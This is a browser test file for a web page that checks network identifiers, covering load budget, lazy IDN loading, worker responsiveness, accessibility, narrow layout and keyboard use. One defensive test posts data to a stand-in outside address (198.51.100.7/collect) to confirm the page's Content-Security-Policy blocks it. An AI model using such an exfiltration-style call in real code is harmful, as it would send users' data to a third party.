import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserSkipReason, DIST, foreignRequests, openHarness, runCheck, SCREENSHOTS, seriousViolations, tableRows, type Harness } from '../testing/browser.js';

const skip = browserSkipReason();
if (skip) console.warn(`@tclint/web: ${skip}`);

const FIRST_SCREEN_BUDGET = 100 * 1024;
const isIdnChunk = (url: string) => /\/chunks\/tr46-[\w-]+\.js$/.test(url);
const gzipped = (url: string) => gzipSync(readFileSync(join(DIST, new URL(url).pathname)), { level: 9 }).length;

describe.skipIf(skip)('the page, in Chromium', () => {
  let harness: Harness;
  beforeAll(async () => {
    harness = await openHarness();
  });
  afterAll(async () => {
    await harness?.close();
  });

  it('loads its first screen with at most 100 KiB of gzipped script, and no engine until it is asked for', async () => {
    const { page } = harness;
    const start = harness.requests.length;
    await page.goto(harness.url, { waitUntil: 'networkidle' });
    const loaded = harness.requests.slice(start);
    const scripts = loaded.filter((url) => url.endsWith('.js'));
    expect(scripts.map((url) => new URL(url).pathname)).toEqual(['/app.js']);
    const bytes = scripts.reduce((sum, url) => sum + gzipped(url), 0);
    console.log(`@tclint/web: first screen ${(bytes / 1024).toFixed(1)} KiB of gzipped script; the worker (loaded by the first check) ${(gzipped(`${harness.url}worker.js`) / 1024).toFixed(1)} KiB`);
    expect(bytes).toBeLessThanOrEqual(FIRST_SCREEN_BUDGET);
    expect(await page.textContent('#privacy')).toContain('Nothing leaves this page.');
  });

  it('loads the IDN tables only when a non-ASCII name appears', async () => {
    const { page } = harness;
    await page.goto(harness.url);
    await page.fill('#check-input', 'AS 12345\nEXAMPLE.com\nabc:def:10::/48\n');
    await runCheck(page);
    expect(harness.requests.some((url) => url.endsWith('/worker.js'))).toBe(true);
    expect(harness.requests.filter(isIdnChunk)).toEqual([]);
    await page.fill('#check-input', 'österreich.icom.museum\n');
    await runCheck(page);
    expect(harness.requests.filter(isIdnChunk)).toHaveLength(1);
    expect(await tableRows(page, 'problems')).toEqual([['1', 'Host', 'error', 'host/punycode', 'Host "österreich.icom.museum" is not ASCII; an internationalized name must be written in Punycode: "xn--sterreich-z7a.icom.museum"']]);
  });

  it('stays responsive on 100,000 lines: checked in the worker, with a progress bar, typing still works', async () => {
    const page = await harness.newPage();
    await page.goto(harness.url);
    const lines = Array.from({ length: 100_000 }, (_, i) => (i % 2 ? `AS ${i}` : `2001:db8:${(i % 65535).toString(16)}::/48`)).join('\n');
    await page.setInputFiles('#check-file', { name: 'large.txt', mimeType: 'text/plain', buffer: Buffer.from(`${lines}\n`) });
    await page.waitForSelector('#check-file-status:not([hidden])');
    await page.evaluate(() => {
      const seen: { start: number; duration: number }[] = [];
      (window as unknown as { longTasks: typeof seen }).longTasks = seen;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) seen.push({ start: entry.startTime, duration: entry.duration });
      }).observe({ type: 'longtask' });
    });
    const startedAt = await page.evaluate(() => performance.now());
    await page.click('#check-run');
    // every look at the page is answered by its main thread: while the worker checks, it keeps answering
    const progress = new Set<number>();
    await page.waitForFunction(() => (document.querySelector('#check-progress') as HTMLProgressElement).value > 0, undefined, { polling: 20 });
    await page.focus('#check-input');
    await page.keyboard.type('typed while checking');
    const runningAfterTyping = await page.isDisabled('#check-run');
    for (;;) {
      const state = await page.evaluate(() => ({ value: (document.querySelector('#check-progress') as HTMLProgressElement).value, done: !(document.querySelector('#check-run') as HTMLButtonElement).disabled }));
      if (state.done) break;
      if (state.value > 0 && state.value < 1) progress.add(state.value);
      await page.waitForTimeout(25);
    }
    const endedAt = await page.evaluate(() => performance.now());
    expect(runningAfterTyping).toBe(true);
    expect(await page.inputValue('#check-input')).toBe('typed while checking');
    expect(progress.size).toBeGreaterThanOrEqual(3);
    expect(await page.textContent('#check-status')).toContain('100,000 records read as one value per line');
    const tasks = (await page.evaluate(() => (window as unknown as { longTasks: { start: number; duration: number }[] }).longTasks)).filter((t) => t.start >= startedAt && t.start <= endedAt);
    const longest = Math.max(0, ...tasks.map((t) => t.duration));
    const blocked = tasks.reduce((sum, t) => sum + t.duration, 0);
    console.log(`@tclint/web: 100,000 lines in ${Math.round(endedAt - startedAt)} ms; main-thread long tasks meanwhile: ${tasks.length}, longest ${Math.round(longest)} ms, ${Math.round(blocked)} ms in all; ${progress.size} progress values seen`);
    // a page that did the work itself would be one long task for the whole run: this one is blocked a small part of it
    expect(blocked).toBeLessThan((endedAt - startedAt) / 4);
    expect(harness.requests.filter(isIdnChunk)).toHaveLength(1);
    await page.close();
  });

  for (const scheme of ['light', 'dark'] as const) {
    it(`has no serious or critical axe-core violation, in ${scheme} colours, with results shown`, async () => {
      const { page } = harness;
      await page.emulateMedia({ colorScheme: scheme });
      await page.goto(harness.url);
      expect(await seriousViolations(page)).toEqual([]);
      await page.click('button[data-example="seed-indicators.csv"]');
      await page.click('#check-form details.options > summary');
      await page.waitForSelector('#rules-table table');
      await runCheck(page);
      expect(await seriousViolations(page)).toEqual([]);
      await page.click('#tab-diagnose');
      await page.click('button[data-example="failed-requests.har"]');
      await page.waitForFunction(() => (document.querySelector('#diagnose-input') as HTMLTextAreaElement).value !== '');
      await page.click('#diagnose-run');
      await page.waitForSelector('#diagnose-results section.report');
      expect(await seriousViolations(page)).toEqual([]);
      await page.emulateMedia({ colorScheme: 'light' });
    });
  }

  it('works at 360 px wide, in dark colours too: nothing wider than the screen', async () => {
    const page = await harness.newPage();
    await page.setViewportSize({ width: 360, height: 780 });
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.goto(harness.url);
    await page.click('button[data-example="seed-indicators.csv"]');
    await runCheck(page);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await page.screenshot({ path: join(SCREENSHOTS, 'check-360-dark.png'), fullPage: true });
    await page.click('#tab-diagnose');
    await page.click('button[data-example="failed-requests.har"]');
    await page.waitForFunction(() => (document.querySelector('#diagnose-input') as HTMLTextAreaElement).value !== '');
    await page.click('#diagnose-run');
    await page.waitForSelector('#diagnose-results section.report');
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await page.screenshot({ path: join(SCREENSHOTS, 'diagnose-360-dark.png'), fullPage: true });
    await page.close();
  });

  it('is used with the keyboard alone: tabs with the arrow keys, a run with Enter', async () => {
    const { page } = harness;
    await page.goto(harness.url);
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to the tool');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('tab-check');
    await page.keyboard.press('ArrowRight');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('tab-diagnose');
    expect(await page.isVisible('#panel-diagnose')).toBe(true);
    expect(await page.isVisible('#panel-check')).toBe(false);
    await page.keyboard.press('ArrowLeft');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('check-input');
    await page.keyboard.type('AS 12345');
    // through the file chooser, the examples and the options to the button
    let steps = 0;
    while ((await page.evaluate(() => document.activeElement?.id)) !== 'check-run' && steps++ < 12) await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#check-results:not([hidden])');
    expect((await tableRows(page, 'problems')).map((row) => row.slice(0, 4))).toEqual([
      ['1', 'ASN', 'error', 'asn/format'],
      ['1', 'ASN', 'error', 'asn/format'],
    ]);
  });

  it('cannot send anything elsewhere: its Content-Security-Policy refuses a request to another origin', async () => {
    const page = await harness.newPage();
    await page.goto(harness.url);
    const refused = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true }));
      const sent = await fetch('http://198.51.100.7/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
      return { sent, directive: await violation };
    });
    expect(refused).toEqual({ sent: 'refused', directive: 'connect-src' });
    // that one refusal is logged by the browser as an error; it is the only one
    expect(harness.errors.filter((e) => !e.includes('Content Security Policy'))).toEqual([]);
    harness.errors.length = 0;
    await page.close();
  });

  it('sent nothing anywhere but the page\'s own origin, and logged no error', () => {
    expect(foreignRequests(harness)).toEqual([]);
    expect(harness.errors).toEqual([]);
  });
});
